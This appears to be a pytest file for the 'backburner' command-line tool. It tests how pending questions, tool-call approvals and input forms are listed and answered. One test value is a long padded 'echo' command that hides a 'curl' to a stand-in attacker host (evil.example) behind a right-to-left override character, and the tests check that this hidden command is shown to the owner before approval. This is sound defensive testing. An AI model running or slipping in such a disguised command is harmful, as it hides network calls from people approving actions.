"""`backburner questions` and `answer`."""

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from support.programs.cli_server import Call, Running, wait_for
from support.programs.terminals import terminal
from support.stage import make

from backburner.core import transitions
from backburner.core.connections.inputs import input_question
from backburner.core.connections.inputs.input_request import (
    InputField,
    InputKind,
    InputNeeded,
    InputRequest,
)
from backburner.core.ids import derive_question_id, new_call_id, new_conversation_id
from backburner.core.question import Purpose, QuestionType
from backburner.core.run import RunKind
from backburner.core.schedule import Interval
from backburner.core.tool_policy import Tool, ToolCall
from backburner.core.transitions import Brief
from backburner.ports import Tx

PROMPT = "May I do this?\n" + "It is long. " * 20 + "The end."
LINE = "echo " + "a" * 4_000 + "; curl https://evil.example/\u202e"


def test_a_question_is_listed_and_answered_once(ask: Callable[..., Any], talk: Call) -> None:
    said = ask("say", "--no-wait", "every 2 seconds ask me whether to go on")
    conversation_id = said["conversation_id"]

    def open_questions() -> Any:
        return [one for one in ask("questions") if one["conversation_id"] == conversation_id]

    (first,) = wait_for(open_questions)
    listed = talk("questions")
    answered = talk("answer", first["id"][:12], "yes")
    # The answer starts the next run, which asks again.
    wait_for(lambda: [one for one in open_questions() if one["id"] != first["id"]])
    late = talk("answer", first["id"], "no")
    talk("cancel", conversation_id)

    assert listed.out[0].split() == [
        "ID",
        "PURPOSE",
        "ASKED",
        "CONVERSATION",
        "QUESTION",
        "OPTIONS",
    ]
    (line,) = [line for line in listed.out if first["id"][:12] in line]
    assert f" {first['title']} " in line
    assert f" {first['prompt']} " in line
    assert (answered.code, answered.out) == (0, ["Answered: yes. It continues with your answer."])
    assert late.code == 4
    assert open_questions() == []


@pytest.fixture
def approval(running: Running) -> str:
    """Have work ask whether it may run a long command, and give the id of the question."""
    question_id = derive_question_id(running.user)
    call = {"server": "s", "tool": "run_command", "definition": "d", "arguments": {"command": LINE}}

    def work(tx: Tx) -> None:
        # Recurring: it is not over after the run that the answer starts, however soon that ends.
        schedule = Interval(timedelta(days=5), anchor=tx.now)
        brief = Brief(title="Work", prompt="Do it.", schedule=schedule)
        task = transitions.start_task(new_conversation_id(), running.user, brief, now=tx.now)
        asked = make.question(
            id=question_id,
            purpose=Purpose.APPROVAL,
            type=QuestionType.CHOICE,
            prompt=PROMPT,
            options=("yes", "no", "always here"),
            binds_to={"calls": [{**call, "digest": "x", "words": None, "whole": False}]},
        )
        tx.conversations.add(task)
        tx.conversations.save(transitions.ask_owner(task.conversation, asked))

    running.transact(work)
    return question_id


def test_the_whole_call_is_shown_before_it_is_approved(
    approval: str, talk: Call, ask: Callable[..., Any]
) -> None:
    with terminal("questions") as opened:
        opened.end()
    lines = opened.seen.splitlines()
    (first,) = [n for n, line in enumerate(lines) if approval[:12] in line]
    about = lines[first].split()
    assert (about[1], about[-1]) == ("approval", "Work")
    assert lines[first + 1].startswith("    May I do this? It is long.")
    assert "    1 yes / 2 no / 3 always here" in lines[first:]
    assert max(map(len, lines)) <= 80
    # Other programs read the list, so nothing of it is cut.
    assert any(PROMPT.replace("\n", " ") in line for line in talk("questions").out)
    shown = "\n".join(talk("questions", approval[:12]).out)
    assert "a" * 4_000 in shown
    assert "https://evil.example/\\u202e" in shown
    assert "\u202e" not in "\n".join(talk("questions", approval, "--json").out)
    assert ask("questions", approval)["binds_to"]["calls"][0]["arguments"] == {"command": LINE}

    # Nobody is there to be asked.
    refused = talk("answer", approval, "yes")
    assert refused.code == 2
    assert "--yes" in refused.err[0]
    assert ask("questions", approval)["id"] == approval
    assert talk("answer", approval, "yes", "--yes").out == [
        "Answered: yes. It continues with your answer."
    ]


@pytest.mark.usefixtures("talk")
def test_an_approval_that_is_thought_better_of_stays_open(
    approval: str, ask: Callable[..., Any]
) -> None:
    with terminal("approve", approval) as shown:
        shown.answer("Answer 'yes' to this? [y/N]", "n")
        code = shown.end()

    assert (code, shown.seen.splitlines()[-1]) == (1, "Nothing was changed.")
    assert ask("questions", approval)["id"] == approval


def test_a_no_to_an_approval_needs_no_second_word(approval: str, talk: Call) -> None:
    assert talk("answer", approval, "no").out == ["Answered: no. It continues with your answer."]


@pytest.fixture
def form(running: Running) -> str:
    """Have a server ask for several values, and give the id of the question."""
    fields = (
        InputField(name="to", required=True),
        InputField(name="share", kind=InputKind.SWITCH, default=True),
    )
    needed = InputNeeded(requests=(InputRequest(key="k", message="Whom?", fields=fields),))
    send = ToolCall(Tool(server="mail", name="send", definition="d"), {})
    call_id = new_call_id()

    def work(tx: Tx) -> None:
        schedule = Interval(timedelta(days=5), anchor=tx.now)
        brief = Brief(title="Work", prompt="Do it.", schedule=schedule)
        task = transitions.start_task(new_conversation_id(), running.user, brief, now=tx.now)
        asked = input_question.input_question(
            needed,
            send,
            call_id,
            server="Mail",
            run_id=make.RUN,
            kind=RunKind.BACKGROUND,
            now=tx.now,
        )
        tx.conversations.add(task)
        tx.conversations.save(transitions.ask_owner(task.conversation, asked))

    running.transact(work)
    return input_question.input_question_id(call_id)


def test_defaults_that_go_out_besides_an_answer_are_shown_before(form: str, talk: Call) -> None:
    shown = "\n".join(talk("questions", form).out)
    assert "- share (yes or no; optional; default: yes)" in shown

    refused = talk("answer", form, "to: bob")
    assert refused.code == 2
    assert "--yes" in refused.err[0]
    with terminal("answer", form, "to: bob") as asking:
        asking.answer("Answer 'to: bob' to this? [y/N]", "n")
        asking.end()
    assert "- share (yes or no; optional; default: yes)" in asking.seen
